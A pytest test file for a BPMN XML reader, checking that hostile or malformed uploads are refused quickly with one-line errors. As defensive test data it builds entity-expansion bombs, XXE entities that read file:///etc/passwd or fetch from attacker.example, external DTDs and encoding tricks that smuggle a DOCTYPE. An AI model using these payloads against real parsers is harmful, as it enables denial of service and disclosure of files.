"""Hostile and broken input: every case is a one-line ModelError, quickly, never a crash.

BPMN files come from uploads and CI checkouts, so the reader is attacked with entity bombs,
external entities, huge and deeply nested documents, and plain garbage.
"""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from conftest import bpmn_bytes, line_of, task

from isobpmn.model import DEFAULT_MAX_BYTES, ModelError, read_document

BPMN_NS = "http://www.omg.org/spec/BPMN/20100524/MODEL"
DEFS = f'<definitions xmlns="{BPMN_NS}" id="D"><process id="P" name="&x;"/></definitions>'
SECONDS = 3.0  # generous: each refusal takes milliseconds


def refused(source, *, name: str | None = "hostile.bpmn", **options) -> ModelError:
    """Read ``source``, expect a ModelError, check it is quick and one clean line."""
    start = time.perf_counter()
    with pytest.raises(ModelError) as caught:
        read_document(source, name=name, **options)
    assert time.perf_counter() - start < SECONDS
    error = caught.value
    message = str(error)
    assert "\n" not in message and "\r" not in message
    assert "Traceback" not in message
    assert message.startswith(name if name is not None else str(source))
    assert error.problems and error.problems[0].message in message
    return error


def _declaration_refused(data: bytes, line: int) -> None:
    error = refused(data)
    assert "DOCTYPE or ENTITY declaration is not allowed" in str(error)
    assert error.line == line
    assert str(error).startswith(f"hostile.bpmn:{line}: ")


# --- entities and DTDs ---------------------------------------------------------------------


def billion_laughs() -> str:
    entities = ['<!ENTITY a "ha">'] + [
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)
    ]
    return ('<?xml version="1.0"?>\n<!DOCTYPE definitions [\n' + "\n".join(entities)
            + '\n<!ENTITY x "&j;">]>\n' + DEFS)


def test_billion_laughs_is_refused():
    _declaration_refused(billion_laughs().encode(), line=2)


def test_quadratic_blowup_is_refused():
    big = "A" * 100_000
    body = "&x;" * 20_000
    data = (f'<?xml version="1.0"?>\n\n<!DOCTYPE d [<!ENTITY x "{big}">]>\n'
            f'<definitions xmlns="{BPMN_NS}" id="D"><documentation>{body}</documentation>'
            "</definitions>").encode()
    _declaration_refused(data, line=3)


@pytest.mark.parametrize("url", ["file:///etc/passwd", "http://attacker.example/steal"])
def test_external_entity_is_refused(url):
    data = (f'<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY x SYSTEM "{url}">]>\n' + DEFS).encode()
    _declaration_refused(data, line=2)


def test_external_dtd_is_refused():
    data = ('<?xml version="1.0"?>\n<!DOCTYPE definitions SYSTEM "http://attacker.example/x.dtd">\n'
            + DEFS.replace("&x;", "x")).encode()
    _declaration_refused(data, line=2)


def test_external_parameter_entity_is_refused():
    data = ('<?xml version="1.0"?>\n<!DOCTYPE d [\n  <!ENTITY % ext SYSTEM '
            '"http://attacker.example/evil.dtd">\n  %ext;\n]>\n' + DEFS).encode()
    _declaration_refused(data, line=2)


def test_lower_case_doctype_is_refused():
    data = ('<?xml version="1.0"?>\n\n\n<!doctype d [<!entity x "y">]>\n' + DEFS).encode()
    error = refused(data)
    assert error.line == 4


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"])
def test_wide_encoding_without_bom_cannot_smuggle_a_doctype(encoding):
    # the byte scan for <!DOCTYPE cannot see UTF-16 text; the file must be refused anyway
    data = billion_laughs().replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
    error = refused(data.encode(encoding))
    assert "UTF-16" in str(error) and "save it as UTF-8" in str(error)


def test_doctype_in_an_encoding_the_scan_cannot_read_is_refused_after_parsing():
    # UTF-7 spells "<!DOCTYPE" as "+ADw-!DOCTYPE"; libxml2 decodes it, so the check after parsing
    # must catch the declaration
    data = ('<?xml version="1.0" encoding="UTF-7"?>\n+ADw-!DOCTYPE d+AD4-\n'
            f'<definitions xmlns="{BPMN_NS}" id="D"/>').encode()
    error = refused(data)
    assert "DOCTYPE or ENTITY declaration is not allowed" in str(error)


def test_undefined_entity_reference_is_not_well_formed():
    data = bpmn_bytes('<bpmn:userTask id="T" name="&nbsp;"/>')
    error = refused(data)
    assert "not well-formed XML" in str(error)
    assert "nbsp" in str(error)
    assert error.line == line_of(data, 'id="T"')


# --- size and depth ------------------------------------------------------------------------


def test_bytes_larger_than_the_limit_are_refused_before_parsing():
    data = bpmn_bytes(task("T"))
    error = refused(data, max_bytes=100)
    assert f"file is {len(data):,} bytes, larger than the limit of 100 bytes" in str(error)


def test_file_larger_than_the_limit_is_refused_without_reading_it(tmp_path):
    path = tmp_path / "big.bpmn"
    path.write_bytes(bpmn_bytes(task("T")))
    error = refused(path, name=None, max_bytes=50)
    assert "larger than the limit of 50 bytes" in str(error)


def test_more_than_ten_megabytes_is_refused_by_default():
    padding = b"<!-- " + b"x" * (DEFAULT_MAX_BYTES + 10) + b" -->"
    data = bpmn_bytes(task("T")).replace(b"<bpmn:process", padding + b"<bpmn:process", 1)
    assert len(data) > 10 * 1024 * 1024
    error = refused(data)
    assert "larger than the limit of 10,485,760 bytes" in str(error)
    assert "split the diagram or raise the limit" in str(error)


def test_just_under_the_limit_is_read():
    data = bpmn_bytes(task("T"))
    assert read_document(data, max_bytes=len(data)).procedure.nodes["T"].kind == "userTask"


def test_deep_nesting_is_a_clear_error_not_a_recursion_error():
    depth = 100_000
    data = (b'<?xml version="1.0"?>\n<definitions xmlns="' + BPMN_NS.encode() + b'" id="D">'
            + b"<documentation>" * depth + b"</documentation>" * depth + b"</definitions>")
    error = refused(data)
    assert "depth" in str(error).lower()


def nested_sub_processes(depth: int) -> bytes:
    body = "".join(f'<bpmn:subProcess id="SP{i}">' for i in range(depth))
    return bpmn_bytes(body + task("Deep") + "</bpmn:subProcess>" * depth)


def test_sub_processes_nested_thirty_deep_are_read():
    procedure = read_document(nested_sub_processes(30)).procedure
    assert procedure.nodes["Deep"].scope_id == "SP29"
    assert procedure.steps[-1].number == ".".join(["1"] * 31)


def test_sub_processes_nested_within_libxml2_limits_are_refused_not_a_recursion_error():
    # 250 levels pass libxml2's depth limit (256) but would exhaust Python's recursion limit
    error = refused(nested_sub_processes(250))
    assert error.problems[0].code == "structure"
    assert 'sub-process "SP32" is nested more than 32 sub-processes deep' in str(error)


# --- encodings and garbage -----------------------------------------------------------------


def test_invalid_utf8_is_refused_with_its_line():
    data = bpmn_bytes(task("T")).replace(b'name="T"', b'name="caf\xe9 \xff"')
    error = refused(data)
    assert "not well-formed XML" in str(error)
    assert error.line == line_of(bpmn_bytes(task("T")), 'id="T"')


def test_nul_byte_gives_a_one_line_message():
    # libxml2 ends this message with a line break; the error must still be one line
    data = bpmn_bytes('<bpmn:userTask id="T"><bpmn:documentation>a\x00b</bpmn:documentation>'
                      "</bpmn:userTask>")
    error = refused(data)
    assert "not well-formed XML: Invalid character" in str(error)
    assert error.line == line_of(data, "<bpmn:documentation>")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf16_is_refused_with_advice(encoding):
    data = bpmn_bytes(task("T")).decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    error = refused(data.encode(encoding))
    assert "UTF-16" in str(error)
    assert "save it as UTF-8" in str(error)


def test_utf8_with_bom_is_read():
    data = b"\xef\xbb\xbf" + bpmn_bytes(task("T"))
    assert read_document(data).procedure.nodes["T"].name == "T"


@pytest.mark.parametrize("data", [b"", b"  \n\t  \n"], ids=["empty", "blank"])
def test_empty_file_is_refused(data):
    assert "file is empty" in str(refused(data))


def test_empty_file_on_disk_is_refused(tmp_path):
    path = tmp_path / "empty.bpmn"
    path.write_bytes(b"")
    assert "file is empty" in str(refused(path, name=None))


@pytest.mark.parametrize("data", [
    b"this is not XML at all",
    b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj",
    b'{"definitions": []}',
    b"<definitions",
    b"<a><b></a>",
], ids=["text", "pdf", "json", "truncated", "mismatched"])
def test_not_xml_is_refused(data):
    error = refused(data)
    assert "not well-formed XML" in str(error)
    assert error.line == 1


@pytest.mark.parametrize("data", [
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect/></svg>',
    b"<definitions/>",
    b'<bpmn:process xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="P"/>',
], ids=["svg", "no-namespace", "process-root"])
def test_well_formed_xml_that_is_not_bpmn_is_refused(data):
    error = refused(data)
    assert "not a BPMN 2.0 file" in str(error)
    assert error.problems[0].code == "not-bpmn"


def test_directory_is_refused(tmp_path):
    error = refused(tmp_path, name=None)
    assert str(error) == f"{tmp_path}: not a file"


def test_missing_path_is_refused(tmp_path):
    path = tmp_path / "nowhere.bpmn"
    error = refused(path, name=None)
    assert str(error) == f"{path}: no such file"
    error = refused(str(path), name="shown-name.bpmn")
    assert str(error) == "shown-name.bpmn: no such file"


def test_bytes_like_sources_are_accepted():
    data = bpmn_bytes(task("T"))
    for source in (bytearray(data), memoryview(data)):
        assert read_document(source).procedure.nodes["T"].kind == "userTask"


def test_model_error_lists_every_problem_in_one_line():
    data = bpmn_bytes(task("T") + task("T") + task("T"))
    error = refused(data, name=str(Path("dir") / "dup.bpmn"))
    assert str(error).endswith("(and 1 more problem)")
    assert len(error.problems) == 2
    assert error.source == str(Path("dir") / "dup.bpmn")
